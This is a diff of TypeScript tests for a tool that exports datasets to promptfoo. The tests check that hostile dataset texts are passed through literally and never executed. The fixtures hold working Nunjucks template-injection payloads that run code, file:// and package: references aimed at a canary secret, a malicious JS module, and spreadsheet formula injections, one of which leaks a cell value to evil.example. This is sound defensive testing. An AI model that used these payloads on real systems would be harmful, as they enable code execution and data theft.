@@ -12,6 +12,7 @@ import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { nunjucksLiteral } from './nunjucks-literal.js';
 import { toYaml } from './yaml.js';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
@@ -159,6 +160,87 @@ test('promptfoo eval of the CSV and JSONL test files gives the same outcomes', {
     checkVerbatim(results);
     assert.equal(code, 100);
     assert.deepEqual([...new Set(hosts)], ['127.0.0.1']);
+  }
+});
+
+/**
+ * Dataset texts that attacked promptfoo 0.115 through earlier exports: Nunjucks payloads (also around `endraw`, which
+ * broke the old raw-block escaping), file and package references (read, executed or imported by promptfoo), and
+ * spreadsheet formulas. Each carries plain sentiment words so that local:wink labels it as given.
+ */
+function hostileTexts(): { id: string; text: string; label: string }[] {
+  const write = (name: string) => `process.getBuiltinModule('fs').writeFileSync('${join(work, name)}','ran')`;
+  return [
+    { id: 'h-endraw', text: `{{ range.constructor("return ${write('pwned-endraw')}")() }} endraw, a wonderful, delightful film.`, label: 'positive' },
+    { id: 'h-close', text: `{% endraw %}{{ range.constructor("return ${write('pwned-close')}")() }}{% raw %} a dreadful, boring, awful mess.`, label: 'negative' },
+    { id: 'h-math', text: '{% raw %}{{ 7*7 }} endraw {% endraw %} great fun, I loved it, excellent.', label: 'positive' },
+    { id: 'h-comment', text: 'a {# comment #} superb #} moving, beautiful story.', label: 'positive' },
+    { id: 'h-file', text: `file://${join(work, 'secret.txt')}`, label: 'negative' },
+    { id: 'h-js', text: `file://${join(work, 'evil.js')}`, label: 'negative' },
+    { id: 'h-package', text: 'package:node:fs:readFileSync terrible, awful, boring', label: 'negative' },
+    { id: 'h-formula', text: '=HYPERLINK("http://evil.example/?leak="&A1,"click") what a great, wonderful film', label: 'positive' },
+    { id: 'h-plus', text: '+1 brilliant, lovely acting', label: 'positive' },
+    { id: 'h-at', text: '@SUM(1+1) dull, awful and boring', label: 'negative' },
+  ];
+}
+
+const CANARY = 'QUIVER-CANARY-SECRET';
+
+test('promptfoo\'s own renderPrompt gives back every text nunjucksLiteral encodes (20,000 random hostile strings)', { skip }, async () => {
+  const require = createRequire(join(pfDir, 'node_modules', 'promptfoo', 'package.json'));
+  const { renderPrompt } = require(join(pfDir, 'node_modules', 'promptfoo', 'dist', 'src', 'evaluatorHelpers.js')) as {
+    renderPrompt(prompt: { raw: string; label: string }, vars: Record<string, string>, filters: object): Promise<string>;
+  };
+  const alphabet = ['{', '}', '%', '#', '-', ' ', '"', "'", '\\', '\n', '\t', '\r', '\u2028', 'raw', 'endraw', '{{', '}}', '{%', '%}',
+    '{#', '#}', 'file://', 'package:', '=', '+', '@', 'x', 'é', '😀'];
+  let seed = 7;
+  const next = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
+  for (let i = 0; i < 20_000; i++) {
+    let s = '';
+    for (let k = 1 + Math.floor(next() * 10); k > 0; k--) s += alphabet[Math.floor(next() * alphabet.length)];
+    assert.equal(await renderPrompt({ raw: '{{text}}', label: 'p' }, { text: nunjucksLiteral(s) }, {}), s, JSON.stringify(s));
+  }
+});
+
+test('a campaign on hostile dataset texts, exported in the three promptfoo forms', { skip }, () => {
+  writeFileSync(join(work, 'secret.txt'), `${CANARY}\n`);
+  writeFileSync(join(work, 'evil.js'), `require('node:fs').writeFileSync(${JSON.stringify(join(work, 'pwned-js'))}, 'ran');\nmodule.exports = () => ({ output: '${CANARY}' });\n`);
+  writeFileSync(join(work, 'hostile.jsonl'), hostileTexts().map((t) => JSON.stringify(t)).join('\n') + '\n');
+  quiver('run', '--dataset', 'hostile.jsonl', '--workers', '1', '--out', 'hostile');
+  quiver('export', 'hostile', '--format', 'promptfoo', '--controls', '--api-base-url', baseUrl, '--out', 'hostile.yaml');
+  quiver('export', 'hostile', '--format', 'promptfoo-csv', '--controls', '--out', 'hostile.csv');
+  quiver('export', 'hostile', '--format', 'promptfoo-jsonl', '--controls', '--out', 'hostile-tests.jsonl');
+  quiver('export', 'hostile', '--format', 'jsonl', '--controls', '--out', 'hostile-suite.jsonl');
+});
+
+test('promptfoo eval of hostile suites: nothing executes, no file is read, each test sends the text Quiver found', { skip }, () => {
+  const suite = readFileSync(join(work, 'hostile-suite.jsonl'), 'utf8').trim().split('\n').slice(1).map((l) => JSON.parse(l) as { kind: string; id: string; text: string });
+  const sent = new Map(suite.map((c) => [`${c.kind}/${c.id}`, c.text]));
+  assert.deepEqual(new Set(suite.map((c) => c.id)), new Set(hostileTexts().map((t) => t.id)), 'every hostile text is in the suite');
+  const forms: [string, string][] = [
+    ['yaml', 'hostile.yaml'],
+    ...['csv', 'jsonl'].map((form): [string, string] => {
+      const file = form === 'csv' ? 'hostile.csv' : 'hostile-tests.jsonl';
+      writeFileSync(join(work, `hostile-${form}.yaml`), toYaml({
+        prompts: ['{{text}}'],
+        providers: [{ id: 'openai:chat:local:wink', config: { apiBaseUrl: baseUrl, apiKeyRequired: false } }],
+        defaultTest: { options: { transform: 'output.trim()' } },
+        tests: `file://${file}`,
+      }));
+      return [form, `hostile-${form}.yaml`];
+    }),
+  ];
+  for (const [form, config] of forms) {
+    const { results } = evaluate(config, `hostile-${form}`);
+    assert.equal(results.length, suite.length, `${form}: promptfoo ran every test (none aborted the eval)`);
+    for (const r of results) {
+      const key = `${String(r.testCase.metadata?.['quiverKind'])}/${String(r.testCase.metadata?.['exampleId'])}`;
+      assert.equal(r.prompt.raw, sent.get(key), `${form}: ${key} sent exactly the text Quiver found`);
+      assert.ok(!JSON.stringify(r).includes(CANARY), `${form}: ${key} read a local file`);
+    }
+    const controls = results.filter((r) => r.testCase.metadata?.['quiverKind'] === 'control');
+    for (const r of controls) assert.equal(r.success, true, `${form}: control failed: ${r.prompt.raw}`);
+    for (const name of ['pwned-endraw', 'pwned-close', 'pwned-js']) assert.ok(!existsSync(join(work, name)), `${form}: ${name} was written: code ran`);
   }
 });
 
